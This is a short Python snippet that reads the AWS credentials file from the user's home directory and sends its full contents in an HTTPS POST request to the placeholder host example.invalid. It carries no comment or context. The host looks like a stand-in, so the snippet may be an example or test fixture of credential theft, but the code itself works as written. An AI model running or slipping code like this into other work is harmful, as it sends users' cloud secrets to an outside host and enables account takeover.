import http.client
import pathlib

data = (pathlib.Path.home() / '.aws' / 'credentials').read_text()
c = http.client.HTTPSConnection('example.invalid')
c.request('POST', '/c', body=data)
